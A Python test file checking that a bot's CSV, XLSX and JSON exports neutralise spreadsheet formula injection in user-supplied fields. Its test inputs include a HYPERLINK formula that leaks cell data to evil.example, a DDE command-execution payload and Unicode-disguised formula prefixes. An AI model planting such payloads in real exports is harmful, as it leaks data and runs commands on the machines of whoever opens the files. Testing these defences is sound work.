"""No word that anybody can type becomes a formula in somebody's spreadsheet."""

import csv
import json
import re
import zipfile
from datetime import date
from io import BytesIO, StringIO
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.export.harmless import LONGEST, STARTS, clean, harmless, looks_like_formula
from bot.export.making import make
from tests.support.exported import about, exported, reader

DAYS = (date(2026, 11, 17), date(2026, 11, 23))
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+1", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1",
    " =1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0", "%0A=1", "\ufeff=1+1", "\u200b=1+1",
    "\u2212" + "1",
)  # fmt: skip
HOSTILE = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(max_size=40),
    st.builds(lambda start, rest: start + rest, st.sampled_from(sorted(STARTS)), st.text(max_size=20)),
)


def everywhere(words: str) -> Any:
    """Return a row with these words in every place that somebody outside can fill."""
    facts: dict[str, Any] = {"role": words, "source": words, "candidate_type": words, "tags": {words: words}}
    return exported(name=words, phone=words, recruiter=words, **facts)


def is_calculated(cell: str) -> bool:
    """Say what Excel and LibreOffice do with a cell of CSV, blanks and marks before it dropped."""
    return (
        re.match(r"[=+\-@|%＝＋－＠﹢﹣＠﹦\u2212]", cell.strip().strip("\u200b\ufeff\u2060").strip())
        is not None
    )


@pytest.mark.parametrize("words", FORMULAS)
def test_formulas_are_known_as_such(words):
    assert looks_like_formula(words)
    assert harmless(words) == f"'{words}"


@pytest.mark.parametrize(
    "words", ["", "李雷", "Anna-Maria", "138****1234", "a=b", "I-1024", "C++ 工程师", "2026-11-20"]
)
def test_what_is_no_formula_stays_as_it_is(words):
    assert harmless(words) == words


@given(HOSTILE)
def test_no_cell_of_csv_is_calculated(words):
    data = make([everywhere(words)], "csv", about(1, is_whole=True), reader(), DAYS).data
    table = list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(table) == 2
    assert [cell for row in table for cell in row if is_calculated(cell)] == []


@given(HOSTILE)
def test_no_cell_of_a_spreadsheet_is_a_formula_or_a_link(words):
    data = make([everywhere(words)], "xlsx", about(1, is_whole=True), reader(), DAYS).data
    with zipfile.ZipFile(BytesIO(data)) as parts:
        written = "".join(parts.read(name).decode() for name in parts.namelist() if "sheet" in name)
    assert "<f>" not in written
    assert "<hyperlink" not in written
    cells = [
        cell for sheet in openpyxl.load_workbook(BytesIO(data)) for row in sheet.iter_rows() for cell in row
    ]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    risky = [cell for cell in cells if isinstance(cell.value, str) and looks_like_formula(cell.value)]
    assert [cell.value for cell in risky if not cell.quotePrefix] == []


@given(HOSTILE)
def test_json_holds_what_was_typed(words):
    data = make([everywhere(words)], "json", about(1, is_whole=True), reader(), DAYS).data
    (told,) = json.loads(data)["attempts"]
    assert (told["name"] or "") == clean(words)


@given(st.text(alphabet=st.characters(categories=["Cc", "Cs", "L", "Z"]), max_size=60))
def test_what_is_clean_fits_any_file(words):
    kept = clean(words)
    assert kept.encode("utf-8").decode() == kept
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", kept)


def test_a_novel_does_not_break_a_cell():
    data = make([everywhere("长" * 99_999)], "xlsx", about(1, is_whole=True), reader(), DAYS).data
    listed = openpyxl.load_workbook(BytesIO(data)).worksheets[0]
    assert listed["C2"].value == "长" * LONGEST
